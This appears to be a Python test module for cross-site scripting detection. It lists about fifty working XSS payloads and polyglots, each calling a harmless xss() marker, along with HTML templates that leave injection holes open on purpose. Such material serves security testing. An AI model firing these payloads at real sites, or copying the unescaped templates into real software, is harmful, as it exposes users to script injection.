"""What somebody would type who wants a page to run it. Each runs in Chromium in one of ``FRAMES`` at least.

A run calls ``xss()``, and nothing else in the site has these three letters in it.
"""

import html
import json
from collections.abc import Callable
from urllib.parse import unquote

#: Most fit the shortest fields, of thirty letters.
PAYLOADS = (
    "<script>xss()</script>",
    "<svg onload=xss()>",
    "<svg/onload=xss()>",
    "<svg\nonload=xss()>",
    "<SVG ONLOAD=xss()>",
    "<<svg onload=xss()>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror=xss() ",
    "'\"><svg onload=xss()>",
    '" autofocus onfocus=xss() x="',
    "' autofocus onfocus=xss() x='",
    '" onmouseover="xss()',
    "' onclick='xss()",
    "</title><svg onload=xss()>",
    "</textarea><svg onload=xss()>",
    "</script><svg onload=xss()>",
    "</style><svg onload=xss()>",
    "--><svg onload=xss()>",
    '"}]}</script><svg onload=xss()>',
    "\u2028</script><svg onload=xss()>",
    "';xss();'",
    '";xss();"',
    "${xss()}",
    "\\u003csvg onload=xss()\\u003e",
    "&lt;svg onload=xss()&gt;",
    "%3Csvg onload=xss()%3E",
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    "\x01javascript:xss()",
    "<a href=javascript:xss()>x</a>",
    "<form action=javascript:xss()>",
    "<button formaction=javascript:xss()>",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<svg onload=xss()>'>",
    "<details open ontoggle=xss()>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<marquee onstart=xss()>",
    "<video src=x onerror=xss()>",
    "<video><source onerror=xss()>",
    "<audio src=x onerror=xss()>",
    "<object data=x onerror=xss()>",
    "<style onload=xss()></style>",
    "<link rel=stylesheet href=x onerror=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=xss()>",
    '<noscript><p title="</noscript><svg onload=xss()>">',
)
#: For a quick run: each breaks out of most places at once.
QUICK = (
    "\"'></title></textarea></script></style>--><svg onload=xss()>",
    "'\"><svg onload=xss()>",
    "javascript:xss()",
)


def _each(payload: str) -> str:
    return payload


#: Pages in which somebody forgot something: a payload is put into the hole as the second part makes it.
FRAMES: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("<p>{}</p>", _each),
    ('<p>{} title="x"></p>', _each),
    ('<input value="{}">', _each),
    ("<input value='{}'>", _each),
    ("<textarea>{}</textarea>", _each),
    ("<title>{}</title>", _each),
    ("<style>{}</style>", _each),
    ("<!--{}-->", _each),
    ('<script type="application/ld+json">{}</script>', _each),
    ("<script>var a = '{}';</script>", _each),
    ('<script>var a = "{}";</script>', _each),
    ("<script>var a = `{}`;</script>", _each),
    ('<p id="p"></p><script>p.innerHTML = "{}"</script>', _each),
    ('<p id="p"></p><script>p.innerHTML = {}</script>', json.dumps),
    ("<p>{}</p>", html.unescape),
    ("<p>{}</p>", unquote),
    ('<a href="{}">x</a>', html.escape),
)
